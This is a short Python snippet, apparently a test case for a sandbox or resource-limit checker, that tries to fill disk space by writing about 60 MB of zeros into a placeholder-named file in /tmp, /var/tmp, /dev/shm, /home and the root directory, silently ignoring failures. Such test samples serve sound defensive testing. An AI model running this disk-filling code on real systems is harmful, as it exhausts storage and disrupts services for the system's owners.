# Tries: to fill the disk where nobody cleans up.
# Base: starter
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/home", "/"):
    try:
        with open(f"{folder}/@TOKEN@", "wb") as file:
            for _ in range(60):
                file.write(bytes(2**20))
    except OSError:
        pass
